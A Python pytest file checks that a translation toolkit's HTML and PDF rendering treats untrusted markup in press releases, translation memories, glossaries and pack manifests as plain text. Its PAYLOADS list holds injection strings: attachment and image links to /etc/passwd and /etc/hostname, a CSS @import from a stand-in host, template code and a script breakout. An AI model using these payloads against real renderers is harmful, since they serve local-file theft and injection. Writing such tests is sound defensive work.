"""Untrusted markup in every input becomes text: no tag, no template code, no fetch, no embed.

The payloads are what an attacker would put into a press release to make the PDF renderer
read local files (``<link rel=attachment>`` embeds them in WeasyPrint), fetch from the network
or from ``/dev/urandom`` (CSS ``@import``/``url()``), run template code (``{{ 7*7 }}``) or break
out of a table cell. Every file opened while a PDF is rendered is recorded with an audit hook
(``sys.addaudithook`` on ``open``): none may lie outside the templates, the fonts, the Python
installation and the output folder, and the PDF has no ``/EmbeddedFiles``.
"""

from __future__ import annotations

import os
import shutil
import sys
import sysconfig
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from tests.conftest import ROOT, SAMPLES
from toolkit.cli import cli

TEMPLATES = ROOT / "templates"
PAYLOADS = [
    '<link rel="attachment" href="file:///etc/passwd">',
    '<img src="file:///etc/hostname">',
    "<style>@import url(http://192.0.2.1/evil.css); "
    "body { background: url(file:///dev/urandom) }</style>",
    "{{ 7*7 }} {% for x in range(9) %}X{% endfor %}",
    "</td><script>alert(1)</script><td>",
]
FORBIDDEN = ("/etc/passwd", "/etc/hostname", "/dev/urandom", "192.0.2.1")

_OPENED: list[str] = []
_RECORDING = [False]


def _hook(event: str, args: tuple[object, ...]) -> None:
    if _RECORDING[0] and event == "open" and args and isinstance(args[0], (str, bytes)):
        name = args[0].decode() if isinstance(args[0], bytes) else args[0]
        _OPENED.append(name)


sys.addaudithook(_hook)


@pytest.fixture
def opened() -> Iterator[list[str]]:
    """Record every path Python opens while the test runs."""
    _OPENED.clear()
    _RECORDING[0] = True
    try:
        yield _OPENED
    finally:
        _RECORDING[0] = False


def _allowed_roots(out: Path) -> list[str]:
    import tempfile

    roots = {
        # The test's own folder (inputs, memory, outputs); Python probing the temp folder
        # (tempfile.gettempdir) and the MIME table and /dev/null (urllib, subprocess).
        str(out.resolve().parent),
        str(Path(tempfile.gettempdir()) / "tmp"),
        "/etc/mime.types",
        "/dev/null",
        str(TEMPLATES.resolve()),
        str(out.resolve()),
        sys.prefix,
        sys.base_prefix,
        sysconfig.get_paths()["purelib"],
        str(Path(sys.executable).resolve().parent.parent),
        "/usr/share/fonts",
        "/usr/share/fontconfig",
        "/etc/fonts",
        "/var/cache/fontconfig",
        "/usr/lib",
        "/usr/share/zoneinfo",
        "/proc/self/fd",
        str(ROOT / "toolkit"),
        str(ROOT / "glossaries"),
        str(SAMPLES),  # the test copies its inputs from there
        # dejakit's own cache (the parsed German hyphenation patterns) and the patterns
        "/usr/share/hyphen",
        str(Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache") / "dejakit"),
    }
    return sorted(roots)


def _check_pdf(pdf: Path, opened: list[str]) -> None:
    from pypdf import PdfReader

    roots = _allowed_roots(pdf.parent)
    import tempfile

    outside = [
        p
        for p in opened
        if p.startswith("/")
        and p != tempfile.gettempdir()  # TemporaryFile opens the folder (O_TMPFILE)
        and not any(p.startswith(r) for r in roots)
    ]
    assert not [p for p in opened if any(f in p for f in FORBIDDEN)]
    assert outside == [], "\n".join(outside)
    reader = PdfReader(pdf)
    root: Any = reader.trailer["/Root"].get_object()
    names = root.get("/Names", {})
    assert "/EmbeddedFiles" not in names
    for page in reader.pages:
        for annot in page.get("/Annots", []) or []:
            assert annot.get_object().get("/Subtype") != "/FileAttachment"
    text = "".join(page.extract_text() or "" for page in reader.pages)
    assert "{{ 7*7 }}" in text or "{{ 7*7 }}" in text.replace("\n", " ")


def _write_sources(folder: Path) -> dict[str, Path]:
    body = "\n\n".join(PAYLOADS)
    files = {
        "txt": folder / "pm.txt",
        "md": folder / "pm.md",
        "html": folder / "pm.html",
    }
    files["txt"].write_text(f"Titel mit {PAYLOADS[3]}\n\n{body}\n", encoding="utf-8")
    files["md"].write_text(f"# Titel mit {PAYLOADS[3]}\n\n{body}\n", encoding="utf-8")
    escaped = "".join(f"<p>{p.replace('&', '&amp;').replace('<', '&lt;')}</p>" for p in PAYLOADS)
    files["html"].write_text(
        f"<html><head>{PAYLOADS[0]}{PAYLOADS[2]}</head><body><h1>Titel {PAYLOADS[3]}</h1>"
        f"{PAYLOADS[1]}<p>Absatz {PAYLOADS[4]}</p>{escaped}</body></html>",
        encoding="utf-8",
    )
    import docx

    document = docx.Document()
    document.add_paragraph(f"Titel {PAYLOADS[3]}", style="Title")
    for payload in PAYLOADS:
        document.add_paragraph(payload)
    files["docx"] = folder / "pm.docx"
    document.save(str(files["docx"]))
    return files


@pytest.mark.parametrize("fmt", ["txt", "md", "html", "docx"])
def test_reader_markup_is_text_in_html_and_pdf(tmp_path: Path, fmt: str, opened: list[str]) -> None:
    source = _write_sources(tmp_path)[fmt]
    out = tmp_path / "out"
    html, pdf = out / "x.html", out / "x.pdf"
    result = CliRunner().invoke(
        cli,
        [
            "translate",
            str(source),
            "--to",
            "ja",
            "--engine",
            "none",
            "-q",
            "-o",
            str(html),
            "-o",
            str(pdf),
        ],
    )
    assert result.exit_code == 0, result.output
    page = html.read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert 'rel="attachment"' not in page
    assert '<img src="file:' not in page
    assert "@import url(http://192.0.2.1" not in page.split("</style>")[-1] or "&lt;style" in page
    assert "49" not in page.replace("2026", "")
    _check_pdf(pdf, opened)


def test_memory_and_glossary_markup_is_text(tmp_path: Path, opened: list[str]) -> None:
    """A TMX target carrying markup is shown as text in the HTML and the PDF."""
    from xml.sax.saxutils import escape

    tmx = tmp_path / "evil.tmx"
    target = escape(" ".join(PAYLOADS))
    tmx.write_text(
        '<?xml version="1.0" encoding="UTF-8"?><tmx version="1.4"><header srclang="de"/><body>'
        f'<tu><tuv xml:lang="de"><seg>Wasserstoff aus Fukushima.</seg></tuv>'
        f'<tuv xml:lang="ja"><seg>{target}</seg></tuv></tu></body></tmx>',
        encoding="utf-8",
    )
    memory = tmp_path / "m.sqlite"
    runner = CliRunner()
    assert (
        runner.invoke(cli, ["memory", "import", str(tmx), "--memory", str(memory)]).exit_code == 0
    )
    src = tmp_path / "pm.txt"
    src.write_text("Titel\n\nWasserstoff aus Fukushima.\n", encoding="utf-8")
    out = tmp_path / "out"
    result = runner.invoke(
        cli,
        [
            "translate",
            str(src),
            "--to",
            "ja",
            "--engine",
            "none",
            "--memory",
            str(memory),
            "-q",
            "-o",
            str(out / "x.pdf"),
            "-o",
            str(out / "x.html"),
            "--qa-appendix",
        ],
    )
    assert result.exit_code == 0, result.output
    page = (out / "x.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page
    import html
    import re

    visible = html.unescape(re.sub(r"<[^>]+>", "", page))
    assert "<script>alert(1)</script>" in visible  # shown as text
    assert "{{ 7*7 }}" in visible
    _check_pdf(out / "x.pdf", opened)


def test_pack_and_mou_markup_is_text(tmp_path: Path, opened: list[str]) -> None:
    folder = tmp_path / "pack"
    folder.mkdir()
    for name in ("pack.toml", "mou-nrw-fukushima-2026.toml", "pm-wasserstoff-de.txt"):
        shutil.copy(SAMPLES / name, folder / name)
    manifest = folder / "pack.toml"
    toml_payload = " ".join(PAYLOADS).replace("\\", "\\\\").replace('"', '\\"')
    text = manifest.read_text(encoding="utf-8")
    text = text.replace(
        'title_de = "Delegationsreise nach Japan"', f'title_de = "Reise {toml_payload}"', 1
    )
    manifest.write_text(text, encoding="utf-8")
    mou = folder / "mou-nrw-fukushima-2026.toml"
    lines = mou.read_text(encoding="utf-8").splitlines()
    for i, line in enumerate(lines):
        if line.startswith("title_de = "):
            lines[i] = f'title_de = "Absicht {toml_payload}"'
            break
    mou.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(
        cli, ["pack", str(manifest), "-o", str(out), "--engine", "none", "-q"]
    )
    assert result.exit_code == 0, result.output
    [pdf] = out.glob("*.pdf")
    _check_pdf(pdf, opened)


def test_glossary_csv_and_toml_keep_markup_as_text(tmp_path: Path) -> None:
    from toolkit.glossary import load_glossary
    from toolkit.glossary.exchange import read_glossary_csv, write_glossary_toml
    from toolkit.glossary.tbx import read_tbx, write_tbx

    csv = tmp_path / "evil.csv"
    rows = "".join(
        f'Begriff{i},"{p.replace(chr(34), chr(34) * 2)}"\n' for i, p in enumerate(PAYLOADS)
    )
    csv.write_text("de,ja\n" + rows, encoding="utf-8")
    entries, skipped = read_glossary_csv(csv)
    assert skipped == 0
    assert [e.ja for e in entries] == PAYLOADS
    toml = tmp_path / "evil.toml"
    write_glossary_toml(entries, toml, glossary_id="evil")
    assert [e.ja for e in load_glossary(toml).entries] == PAYLOADS
    tbx = tmp_path / "evil.tbx"
    write_tbx(entries, tbx)
    assert [e.ja for e in read_tbx(tbx)[0]] == PAYLOADS
